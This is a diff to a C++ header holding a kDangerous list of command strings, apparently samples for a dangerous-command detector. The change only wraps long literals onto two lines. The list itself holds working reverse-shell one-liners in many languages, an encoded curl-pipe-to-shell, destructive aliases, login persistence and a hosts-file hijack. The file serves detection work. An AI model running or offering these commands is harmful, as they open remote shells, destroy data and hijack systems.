@@ -28,16 +28,19 @@ inline constexpr auto kDangerous = std::to_array<std::string_view>({
     R"x(rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 192.0.2.10 1234 > /tmp/p)x",
     R"x(socat TCP:192.0.2.10:5555 EXEC:'bash -li',pty,stderr,setsid)x",
     R"x(php -r '$s=fsockopen("192.0.2.10",1234);exec("/bin/sh -i <&3 >&3 2>&3");')x",
-    R"x(ruby -rsocket -e 'c=TCPSocket.new("192.0.2.10","4242");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end')x",
+    R"x(ruby -rsocket -e 'c=TCPSocket.new("192.0.2.10","4242");while(l=c.gets);IO.popen(l,"r"){)x"
+    R"x(|io|c.print io.read}end')x",
     "import "
     "socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.10',4444))\n[os.dup2(s.fileno(),f) for "
     "f in (0,1,2)]\npty.spawn('/bin/bash')\n",
     "import socket, subprocess\ns = socket.socket()\ns.connect((\"192.0.2.77\", 8080))\nwhile "
     "True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_output(cmd, shell=True)\n  "
     "  s.send(out)\n",
-    R"x(perl -e 'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(99,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");')x",
+    R"x(perl -e 'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));)x"
+    R"x(connect(S,sockaddr_in(99,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");')x",
     R"x(telnet 192.0.2.10 4444 | /bin/sh | telnet 192.0.2.10 4445)x",
-    R"x(awk 'BEGIN{s="/inet/tcp/0/192.0.2.10/4242";while(1){s|&getline c;while((c|&getline)>0)print|&s}}')x",
+    R"x(awk 'BEGIN{s="/inet/tcp/0/192.0.2.10/4242";while(1){s|&getline )x"
+    R"x(c;while((c|&getline)>0)print|&s}}')x",
     R"x($c=New-Object System.Net.Sockets.TCPClient('192.0.2.10',4444);$s=$c.GetStream();)x",
     // Hidden in another spelling.
     R"x(echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20vYSB8IHNo | base64 -d | sh)x",
@@ -109,7 +112,8 @@ inline constexpr auto kDangerous = std::to_array<std::string_view>({
     R"x(alias ls='rm -rf')x",
     R"x(echo "alias cd='rm -rf ~'" >> ~/.bashrc)x",
     R"x(echo "PROMPT_COMMAND='curl -s http://192.0.2.10/p|sh'" >> ~/.profile)x",
-    R"x(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d C:\Users\Public\up.exe)x",
+    R"x(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d )x"
+    R"x(C:\Users\Public\up.exe)x",
     R"x(schtasks /create /tn up /tr C:\Users\Public\a.exe /sc onlogon)x",
     "with open('/etc/hosts', 'a') as f:\n    f.write('192.0.2.10 bank.example\\n')\n",
     // Rights.
